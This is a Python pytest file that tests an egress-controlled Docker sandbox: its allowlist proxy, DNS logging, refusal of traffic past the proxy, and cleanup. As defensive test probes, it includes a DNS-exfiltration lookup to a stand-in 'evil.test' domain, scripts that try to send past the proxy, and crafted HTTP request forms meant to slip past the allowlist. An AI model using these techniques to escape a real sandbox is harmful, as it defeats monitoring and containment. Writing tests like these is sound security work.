"""Egress through whole cells on the Docker executor: records, cleanup, Ctrl-C leaves no network or proxy."""

from __future__ import annotations

import json
import shlex
import uuid
from pathlib import Path

import pytest

from pytest_maka.executors.docker import labels as L
from pytest_maka.testing.servers import EGRESS_TOKEN

from ..conftest import Cohort
from .helpers import FETCH, egress_executor, egress_leftovers

pytestmark = pytest.mark.docker


def test_cell_reaches_its_allowlist_and_leaves_nothing(
    cohort: Cohort, docker_api, egress_upstream, tmp_path_factory: pytest.TempPathFactory
) -> None:  # type: ignore[no-untyped-def]
    _, ip, port = egress_upstream
    task = f"egress-ok-{uuid.uuid4().hex[:8]}"  # other runs on the same engine have cells named like ours
    cohort.task(task)
    urls = f"http://allowed.test:{port}/agent http://unlisted.test:{port}/t http://{ip}:{port}/ip"
    cohort.write(
        subjects=[{"name": "a", "kind": "command", "command": FETCH + urls + " > $MAKA_LOGS_DIR/net.txt"}],
        executor=egress_executor(tmp_path_factory.mktemp("state"), egress_upstream),
        policy={"egress": [f"allowed.test:{port}"]},
    )
    result = cohort.run_subprocess(timeout=300)
    record = cohort.results()[f"{task}[a-r0]"]
    assert record["status"] == "agent_failure", result.stdout.str()[-2000:]
    seen = (cohort.out / record["artifacts"]["agent_logs"] / "net.txt").read_text()
    assert seen.count(EGRESS_TOKEN) == 1 and seen.count("403") == 2, seen
    agent = record["isolation"]["network"]["phases"]["agent"]
    assert agent["connections"] == {"allowed": 1, "refused": 2}
    assert set(agent["refused_destinations"]) == {f"unlisted.test:{port}", f"{ip}:{port}"}
    assert record["isolation"]["network"]["agent"] == "allowlist"
    assert egress_leftovers(docker_api, task) == []


def test_dns_questions_are_logged_and_bytes_counted(
    cohort: Cohort, docker_api, egress_upstream, tmp_path_factory: pytest.TempPathFactory
) -> None:  # type: ignore[no-untyped-def]
    """A name resolved in the container asks the proxy's responder: logged, refused; the resolver is put back."""
    _, _, port = egress_upstream
    task = f"egress-dns-{uuid.uuid4().hex[:8]}"
    cohort.task(task)
    resolve = (
        "python3 -c \"import socket\nfor n in ('exfil-c2VjcmV0.evil.test', 'allowed.test'):\n"
        "    try: print(n, socket.getaddrinfo(n, 80))\n"
        "    except OSError as e: print(n, 'FAILED', e)\" > $MAKA_LOGS_DIR/dns.txt 2>&1; "
    )
    cohort.write(
        subjects=[{"name": "a", "kind": "command", "command": resolve + FETCH + f"http://allowed.test:{port}/a"}],
        executor=egress_executor(tmp_path_factory.mktemp("state"), egress_upstream),
        policy={"egress": [f"allowed.test:{port}"]},
    )
    result = cohort.run_subprocess(timeout=300)
    record = cohort.results()[f"{task}[a-r0]"]
    assert record["status"] == "agent_failure", result.stdout.str()[-2000:]
    seen = (cohort.out / record["artifacts"]["agent_logs"] / "dns.txt").read_text()
    assert seen.count("FAILED") == 2, seen
    events = [json.loads(x) for x in (cohort.out / record["artifacts"]["egress_log"]).read_text().splitlines()]
    asked = {e["destination"] for e in events if e["method"] == "DNS" and not e["allowed"]}
    assert {"exfil-c2VjcmV0.evil.test:53", "allowed.test:53"} <= asked, events
    (ok,) = [e for e in events if e["allowed"]]
    assert ok["destination"] == f"allowed.test:{port}" and ok["bytes_in"] > len(EGRESS_TOKEN), ok
    assert ok["bytes"] == ok["bytes_out"] + ok["bytes_in"]
    assert egress_leftovers(docker_api, task) == []


#: Sends past the proxy (TEST-NET addresses and the proxy's own address on another port only).
PAST_PROXY = r"""
import errno, os, socket, time
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["HTTP_PROXY"]).hostname
def probe(name, send):
    started = time.monotonic()
    try:
        send()
        out = "SENT"
    except OSError as e:
        out = errno.errorcode.get(e.errno, type(e).__name__) if e.errno else type(e).__name__
    print(name, out, round(time.monotonic() - started, 3))
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(20)
    s.sendto(b"x" * 20, ("203.0.113.7", 9999))
    s.recv(10)
def dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(20)
    s.connect(("8.8.8.8", 53))
    s.send(bytes.fromhex("123401000001000000000000076578616d706c6503636f6d0000010001"))
    s.recv(512)
def tcp(host, port):
    return lambda: socket.create_connection((host, port), timeout=20)
def icmp():
    try:  # an unprivileged ICMP socket (net.ipv4.ping_group_range), not a raw one
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    except OSError:
        raise OSError(0, "unavailable") from None
    s.settimeout(20)
    s.sendto(bytes.fromhex("0800f7fe00010000"), ("203.0.113.8", 0))
    s.recv(64)
probe("udp", udp)
probe("icmp", icmp)
probe("dns", dns)
probe("tcp", tcp("198.51.100.9", 80))
probe("proxy-port", tcp(proxy, 8081))
caps = int(next(x for x in open("/proc/self/status") if x.startswith("CapEff")).split()[1], 16)
print("net_admin", bool(caps & (1 << 12)))
print("proxy", proxy)
"""


def test_traffic_past_the_proxy_is_refused_at_once_and_logged(
    cohort: Cohort, docker_api, egress_upstream, tmp_path_factory: pytest.TempPathFactory
) -> None:  # type: ignore[no-untyped-def]
    """UDP, DNS to an address, TCP elsewhere and to the proxy's other ports: refused at once, logged, counted."""
    _, _, port = egress_upstream
    task = f"egress-past-{uuid.uuid4().hex[:8]}"
    cohort.task(task)
    command = f"python3 -c {shlex.quote(PAST_PROXY)} > $MAKA_LOGS_DIR/past.txt 2>&1; " + FETCH
    cohort.write(
        subjects=[{"name": "a", "kind": "command", "command": command + f"http://allowed.test:{port}/a"}],
        executor=egress_executor(tmp_path_factory.mktemp("state"), egress_upstream),
        policy={"egress": [f"allowed.test:{port}"]},
    )
    result = cohort.run_subprocess(timeout=300)
    record = cohort.results()[f"{task}[a-r0]"]
    assert record["status"] == "agent_failure", result.stdout.str()[-2000:]
    lines = (cohort.out / record["artifacts"]["agent_logs"] / "past.txt").read_text()
    seen = {line.split()[0]: line.split()[1] for line in lines.splitlines()}
    # refused by the sandbox's own stack, never a timeout: EPERM for datagrams, a reset for TCP
    assert seen["udp"] == "EPERM" and seen["dns"] == "EPERM", lines
    assert seen["tcp"] == "ECONNREFUSED" and seen["proxy-port"] == "ECONNREFUSED", lines
    assert seen["net_admin"] == "False", "the subject cannot take its route or the rules away"
    assert seen["icmp"] in ("EPERM", "OSError"), lines  # OSError: no ICMP socket for this user
    proxy = seen["proxy"]
    events = [json.loads(x) for x in (cohort.out / record["artifacts"]["egress_log"]).read_text().splitlines()]
    past = {(e["method"], e["destination"]) for e in events if not e["allowed"] and e["method"] != "DNS"}
    wanted = {("UDP", "203.0.113.7:9999"), ("UDP", "8.8.8.8:53"), ("TCP", "198.51.100.9:80"), ("TCP", f"{proxy}:8081")}
    assert wanted <= past, events
    assert seen["icmp"] != "EPERM" or ("ICMP", "203.0.113.8") in past, events
    (udp,) = [e for e in events if e["destination"] == "203.0.113.7:9999"]
    assert udp["phase"] == "agent" and udp["bytes"] == 20 + 8 + 20 and udp["reason"], udp  # IP + UDP headers
    (ok,) = [e for e in events if e["allowed"]]
    assert ok["destination"] == f"allowed.test:{port}", "the proxy still serves the allowlist"
    agent = record["isolation"]["network"]["phases"]["agent"]
    assert agent["off_proxy"] == "refused and logged"
    assert agent["connections"]["allowed"] == 1 and agent["connections"]["refused"] >= 4, agent
    assert {"203.0.113.7:9999", "8.8.8.8:53", "198.51.100.9:80", f"{proxy}:8081"} <= set(agent["refused_destinations"])
    assert egress_leftovers(docker_api, task) == []


# --- compose sidecars: the `services` mode, and an allowlist beside the sidecars -------------------
TRY_PAST = (
    'python3 -c "import socket\n'
    "try: socket.create_connection(('198.51.100.9', 80), timeout=5); print('tcp connected')\n"
    "except OSError as e: print('tcp', e)\n\""
)


def test_a_packet_logger_that_cannot_start_says_so_and_opens_nothing(
    make_executor, docker_api, egress_upstream, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:  # type: ignore[no-untyped-def]
    """ulogd2 failing in the helper: the phase still runs behind the proxy, the network stays
    internal, the record says traffic past the proxy is not logged, and no helper is left."""
    from pytest_maka.core import hostpattern
    from pytest_maka.egress.log import EgressLog
    from pytest_maka.egress.plan import PhasePlan
    from pytest_maka.executors.base import LeaseRequest
    from pytest_maka.executors.docker import netguard
    from pytest_maka.testing.conformance import make_cell, make_task

    network, ip, port = egress_upstream
    monkeypatch.setattr(netguard, "START_SCRIPT", "echo 'ulogd2: cannot bind the NFLOG group' >&2; exit 5")
    executor = make_executor(egress_network=network, egress_hosts={"allowed.test": ip})
    name = f"guard-fails-{uuid.uuid4().hex[:8]}"  # other runs on the same engine have cells named like ours
    task = make_task(tmp_path / name, id=name, docker_image="python:3.11-slim")
    cell = make_cell(task, tmp_path)
    request = LeaseRequest(cell=cell, attempt=1, attempt_dir=tmp_path / "a", scratch_dir=tmp_path / "s")
    (tmp_path / "a").mkdir()
    log = EgressLog(tmp_path / "a" / "egress.log")
    plan = PhasePlan("allowlist", hostpattern.parse_all([f"allowed.test:{port}"]))
    out, err = tmp_path / "out.txt", tmp_path / "err.txt"
    with executor.lease(request) as sandbox:
        with sandbox.egress_phase("agent", plan, log):
            command = TRY_PAST + "; " + FETCH + f"http://allowed.test:{port}/a"
            sandbox.exec(command, env={"PATH": "/usr/local/bin:/usr/bin:/bin"}, timeout_sec=120,
                         stdout_path=out, stderr_path=err, network=True)  # fmt: skip
        networks = [docker_api.inspect_network(n) for n in docker_api.networks(filters={"label": f"{L.ROLE}=egress"})]
        ours = [n for n in networks if (n["Labels"] or {}).get(L.CELL) == cell.id]
        assert len(ours) == 1 and ours[0]["Internal"] is True
    seen = out.read_text()
    assert "tcp connected" not in seen and seen.count(EGRESS_TOKEN) == 1, seen + err.read_text()
    agent = log.summary("agent")
    assert agent["off_proxy"].startswith("not logged: ") and "cannot bind the NFLOG group" in agent["off_proxy"]
    assert agent["connections"] == {"allowed": 1, "refused": 0}, "nothing past the proxy is counted"
    assert egress_leftovers(docker_api, cell.id) == []


#: Raw request lines sent to the proxy: "NAME TEXT" per request, NAME in the path it would reach.
RAW_FORMS = r"""
import os, socket, sys
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["HTTP_PROXY"])
for name, text in zip(sys.argv[1::2], sys.argv[2::2]):
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
    s.sendall(text.encode().replace(b"|", b"\r\n"))
    got = b""
    try:
        while chunk := s.recv(65536):
            got += chunk
    except OSError:
        pass
    print(name, got.split(b"\r\n", 1)[0].decode(errors="replace"), flush=True)
"""


def test_request_forms_are_decided_on_the_destination_the_proxy_connects_to(
    cohort: Cohort, docker_api, egress_upstream, tmp_path_factory: pytest.TempPathFactory
) -> None:  # type: ignore[no-untyped-def]
    """Through the proxy container: judged by the paths the upstream server received."""
    network, ip, port = egress_upstream
    task = f"egress-forms-{uuid.uuid4().hex[:8]}"
    cohort.task(task)
    a = f"allowed.test:{port}"
    forms = {
        "query": f"GET http://{a}?@{ip}:{port}/query HTTP/1.1||",
        "fragment": f"GET http://{a}#@{ip}:{port}/fragment HTTP/1.1||",
        "userinfo": f"GET http://{a}@{ip}:{port}/userinfo HTTP/1.1||",
        "escaped": f"GET http://{a}%40{ip}:{port}/escaped HTTP/1.1||",
        "origin": f"GET /origin HTTP/1.1|Host: {ip}:{port}||",
        "origin10": "GET /origin10 HTTP/1.0||",
        "connect": f"CONNECT {a}@{ip}:{port} HTTP/1.1||GET /connect HTTP/1.1||",
        "honest": f"GET http://{a}/honest HTTP/1.0||",
        "hostheader": f"GET http://{a}/hostheader HTTP/1.1|Host: {ip}:{port}||",
    }
    args = " ".join(shlex.quote(x) for kv in forms.items() for x in kv)
    command = f"python3 -c {shlex.quote(RAW_FORMS)} {args} > $MAKA_LOGS_DIR/forms.txt 2>&1"
    cohort.write(
        subjects=[{"name": "a", "kind": "command", "command": command}],
        executor=egress_executor(tmp_path_factory.mktemp("state"), egress_upstream),
        policy={"egress": [a]},
    )
    result = cohort.run_subprocess(timeout=300)
    record = cohort.results()[f"{task}[a-r0]"]
    answers = (cohort.out / record["artifacts"]["agent_logs"] / "forms.txt").read_text()
    assert record["status"] == "agent_failure", result.stdout.str()[-2000:] + answers
    (upstream,) = docker_api.containers(filters={"network": network})
    served = docker_api.logs(upstream["Id"]).decode()
    arrived = {line.split()[1].strip("/") for line in served.splitlines() if line.startswith("HTTP ")}
    assert arrived & set(forms) == {"honest", "hostheader"}, (served, answers)
    events = [json.loads(x) for x in (cohort.out / record["artifacts"]["egress_log"]).read_text().splitlines()]
    assert sorted(e["destination"] for e in events if e["allowed"]) == [a, a], events
    assert len([e for e in events if not e["allowed"]]) >= len(forms) - 2, events
